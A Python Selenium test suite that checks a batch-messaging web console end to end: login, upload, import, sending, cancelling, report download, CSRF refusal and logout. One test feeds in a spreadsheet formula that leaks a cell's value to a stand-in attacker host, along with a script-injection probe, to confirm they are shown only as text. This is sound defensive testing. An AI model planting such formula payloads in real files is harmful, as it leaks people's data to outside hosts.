"""The web console in a real browser (headless Chromium through Selenium), against a real console
and the real sandbox: log in, upload, change the mapping, import, send, watch, download, cancel.

Skipped when Chromium is not installed, except where ``BATCHQUEUE_REQUIRE_BROWSER=1`` (CI sets it
after installing ``chromium`` and ``chromium-driver``), where its absence is a failure. Every page
visited is saved as a screenshot under ``test-output/screenshots``.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
import requests
from selenium import webdriver
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.chrome.options import Options
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import Select, WebDriverWait

from batchqueue.ledger import open_ledger
from tests.conftest import write_csv
from tests.console_helpers import PASSWORD, SCREENSHOTS, USER, Running, chromium_or_skip, start_console, stop_console
from tests.sandbox_helpers import contacts

SAMPLES = Path(__file__).resolve().parents[2] / "samples"


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[WebDriver]:
    chromium, driver = chromium_or_skip()
    options = Options()
    options.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,1100"):
        options.add_argument(arg)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    drv = webdriver.Chrome(options=options, service=Service(executable_path=driver))
    drv.downloads = downloads  # type: ignore[attr-defined]
    try:
        yield drv
    finally:
        drv.quit()


def shot(browser: WebDriver, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    height = browser.execute_script("return document.body.scrollHeight")
    browser.set_window_size(1280, max(800, min(int(height) + 120, 4000)))
    browser.save_screenshot(str(SCREENSHOTS / f"{name}.png"))


def wait(browser: WebDriver, condition: Callable[[WebDriver], object], seconds: float = 30) -> None:
    # An open job page redraws its counts as they change: an element found a moment ago may be gone.
    WebDriverWait(
        browser,
        seconds,
        poll_frequency=0.2,
        ignored_exceptions=(NoSuchElementException, StaleElementReferenceException),
    ).until(condition)


def log_in(browser: WebDriver, url: str) -> None:
    browser.get(url + "/login")
    browser.find_element(By.ID, "user").send_keys(USER)
    browser.find_element(By.ID, "password").send_keys(PASSWORD)
    browser.find_element(By.CSS_SELECTOR, "#login-form button").click()
    wait(browser, lambda b: b.current_url.endswith("/jobs"))


def upload(browser: WebDriver, url: str, file: Path) -> None:
    browser.get(url + "/upload")
    browser.find_element(By.ID, "file").send_keys(str(file))
    browser.find_element(By.ID, "upload-button").click()
    wait(browser, lambda b: "/check" in b.current_url)


def count(browser: WebDriver, state: str) -> int:
    for _ in range(10):
        try:
            return int(browser.find_element(By.ID, f"count-{state}").text.replace(",", "") or 0)
        except StaleElementReferenceException:  # redrawn between finding it and reading it: find it again
            time.sleep(0.1)
    raise AssertionError(f"the count of {state!r} kept being redrawn while it was read")


def test_a_page_without_a_session_redirects_to_login(running: Running, browser: WebDriver) -> None:
    browser.get(running.url + "/jobs/1")
    wait(browser, lambda b: "/login" in b.current_url)
    assert "next=/jobs/1" in browser.current_url
    shot(browser, "01-login")
    browser.find_element(By.ID, "user").send_keys(USER)
    browser.find_element(By.ID, "password").send_keys("not the password")
    browser.find_element(By.CSS_SELECTOR, "#login-form button").click()
    # The click returns before the answer has loaded: the old page's source would be read.
    wait(browser, lambda b: "Wrong user name or password" in b.page_source)
    assert "/login" in browser.current_url


def test_upload_change_the_phone_column_import_send_watch_and_download(running: Running, browser: WebDriver) -> None:
    log_in(browser, running.url)
    shot(browser, "02-jobs-empty")
    upload(browser, running.url, SAMPLES / "contacts.xlsx")
    shot(browser, "03-check")
    phone = Select(browser.find_element(By.ID, "phone_column"))
    assert phone.first_selected_option.text == "Mobile"
    assert browser.find_element(By.ID, "sheet").text == "Contacts"
    valid_with_mobile = int(browser.find_element(By.ID, "count-valid").text)
    assert valid_with_mobile >= 6

    # Change the phone column in the preview: the page checks again with it.
    phone.select_by_visible_text("Account")
    wait(browser, lambda b: "phone_column=Account" in b.current_url)
    assert int(browser.find_element(By.ID, "count-valid").text) == 0
    assert "Account" in browser.find_element(By.ID, "problems").text
    shot(browser, "04-check-wrong-phone-column")
    Select(browser.find_element(By.ID, "phone_column")).select_by_visible_text("Mobile")
    wait(browser, lambda b: "phone_column=Mobile" in b.current_url)
    assert int(browser.find_element(By.ID, "count-valid").text) == valid_with_mobile

    browser.find_element(By.ID, "survey").send_keys("4242")
    browser.find_element(By.ID, "instance").send_keys("1")
    browser.find_element(By.ID, "import-button").click()
    wait(browser, lambda b: "/jobs/1" in b.current_url)
    assert count(browser, "pending") == valid_with_mobile
    shot(browser, "05-job-imported")

    browser.find_element(By.ID, "start-button").click()
    # The page follows the run live (no reload): every pending row sent, outcomes by callback.
    wait(browser, lambda b: count(b, "pending") == 0 and count(b, "queued") == valid_with_mobile, 60)
    assert running.console.ctx.supervisor.wait(1, 60) == 0
    browser.refresh()
    wait(browser, lambda b: "finished" in b.find_element(By.ID, "run-message").text)
    assert "start" in browser.find_element(By.ID, "audit").text
    assert "import" in browser.find_element(By.ID, "audit").text
    shot(browser, "06-job-sent")

    browser.find_element(By.ID, "report-xlsx").click()
    report = browser.downloads / "job-1-report.xlsx"  # type: ignore[attr-defined]
    wait(browser, lambda b: report.exists() and report.stat().st_size > 0, 30)
    time.sleep(0.3)
    workbook = openpyxl.load_workbook(report, read_only=True)
    table = [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    workbook.close()
    header = table[0]
    states = [str(r[header.index("bq_state")]) for r in table[1:] if r[header.index("bq_state")]]
    ledger = open_ledger(running.settings.db_url)
    try:
        assert sorted(states) == sorted(r for r, n in ledger.counts(1).items() for _ in range(n))
    finally:
        ledger.close()
    assert states.count("queued") == valid_with_mobile

    # Nothing secret reached any page: the API key, the key's user, a callback token.
    for page in ("/jobs", "/jobs/1", "/api/jobs/1"):
        browser.get(running.url + page)
        assert running.settings.api_key.reveal() not in browser.page_source
    browser.get(running.url + "/jobs")
    shot(browser, "07-jobs")


def test_cancel_a_run_from_its_page(tmp_path: Path, browser: WebDriver) -> None:
    found = start_console(tmp_path, latency=0.05, complete_after=None)
    try:
        job_id = _import(found, contacts(tmp_path / "many.csv", 400))
        log_in(browser, found.url)
        browser.get(f"{found.url}/jobs/{job_id}")
        browser.find_element(By.NAME, "concurrency").clear()
        browser.find_element(By.NAME, "concurrency").send_keys("1")
        browser.find_element(By.ID, "start-button").click()
        wait(browser, lambda b: count(b, "queued") > 0, 30)
        browser.find_element(By.ID, "cancel-link").click()
        wait(browser, lambda b: "/cancel" in b.current_url)
        assert "pending row(s) of job" in browser.find_element(By.ID, "question").text  # the CLI's question
        shot(browser, "08-cancel-confirm")
        browser.find_element(By.ID, "confirm-cancel").click()
        wait(browser, lambda b: b.current_url.endswith(f"/jobs/{job_id}"))
        assert found.console.ctx.supervisor.wait(job_id, 30) is not None  # nothing left to send: it ended
        browser.refresh()
        canceled, queued = count(browser, "canceled"), count(browser, "queued")
        assert canceled > 0
        assert queued > 0
        assert count(browser, "pending") == 0
        assert canceled + queued + count(browser, "uncertain") + count(browser, "failed") == 400
        assert len(found.sandbox.app.store.dump()) == queued  # canceled rows were never sent
        assert "cancel" in browser.find_element(By.ID, "audit").text
        shot(browser, "09-job-canceled")
    finally:
        stop_console(found)


def _import(found: Running, file: Path) -> int:
    from batchqueue.intake.mapping.spec import MappingSpec
    from batchqueue.service.loading import ImportRequest, import_file

    result = import_file(found.settings, ImportRequest(file, MappingSpec(), "4242", "1"))
    assert result.job_id is not None
    return result.job_id


def test_a_request_without_the_csrf_token_is_refused(running: Running, browser: WebDriver) -> None:
    log_in(browser, running.url)
    _import(running, contacts(running.console.ctx.upload_dir.parent / "few.csv", 5))
    cookies = {c["name"]: c["value"] for c in browser.get_cookies()}
    assert "batchqueue_session" in cookies
    cookie = next(c for c in browser.get_cookies() if c["name"] == "batchqueue_session")
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    # The browser's own session, without the form's token: refused, and nothing changed.
    reply = requests.post(f"{running.url}/jobs/1/cancel", cookies=cookies, timeout=10)
    assert reply.status_code == 400
    assert "CSRF" in reply.text
    reply = requests.post(f"{running.url}/api/jobs/1/cancel", json={"confirm": True}, cookies=cookies, timeout=10)
    assert reply.status_code == 400
    ledger = open_ledger(running.settings.db_url)
    try:
        assert ledger.counts(1)["pending"] == 5
    finally:
        ledger.close()
    # A form from another site (the browser posts it with the session cookie): refused too.
    browser.get("data:text/html,<form method=post action='" + running.url + "/jobs/1/cancel'></form>")
    browser.execute_script("document.forms[0].submit()")
    wait(browser, lambda b: "CSRF" in b.page_source or "log in" in b.page_source.lower())
    ledger = open_ledger(running.settings.db_url)
    try:
        assert ledger.counts(1)["pending"] == 5
    finally:
        ledger.close()


def test_formula_cells_of_an_upload_are_shown_as_text(running: Running, browser: WebDriver, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://attacker.example/?leak="&A2,"click me")'
    file = write_csv(
        tmp_path / "formulas.csv",
        [
            ["phone", "name", "notes"],
            ["617-555-0101", "=1+1", evil],
            ["617-555-0102", "<script>alert(1)</script>", "@SUM(1)"],
        ],
    )
    log_in(browser, running.url)
    upload(browser, running.url, file)
    table = browser.find_element(By.ID, "preview")
    cells = [td.text for td in table.find_elements(By.TAG_NAME, "td")]
    assert "=1+1" in cells
    assert evil in cells
    assert "@SUM(1)" in cells
    assert "<script>alert(1)</script>" in cells  # shown, not run
    assert not table.find_elements(By.TAG_NAME, "a")
    assert not table.find_elements(By.TAG_NAME, "script")
    shot(browser, "10-check-formulas")


def test_an_upload_keeps_its_own_name_and_logging_out_ends_the_session(
    running: Running, browser: WebDriver, tmp_path: Path
) -> None:
    file = write_csv(tmp_path / "данные клиентов.csv", [["phone", "name"], ["617-555-0101", "Аня"]])
    log_in(browser, running.url)
    upload(browser, running.url, file)
    assert browser.find_element(By.CSS_SELECTOR, "h1 .file").text == file.name  # the user's own name
    cookie = next(c for c in browser.get_cookies() if c["name"] == "batchqueue_session")
    browser.find_element(By.CSS_SELECTOR, "form.who button").click()
    wait(browser, lambda b: "/login" in b.current_url)
    shot(browser, "11-logged-out")
    browser.get(running.url + "/jobs")
    wait(browser, lambda b: "/login" in b.current_url)  # the session has ended
    # A copy of the cookie taken before logging out opens nothing either.
    kept = requests.get(
        running.url + "/api/jobs", cookies={cookie["name"]: cookie["value"]}, timeout=10, allow_redirects=False
    )
    assert kept.status_code == 401
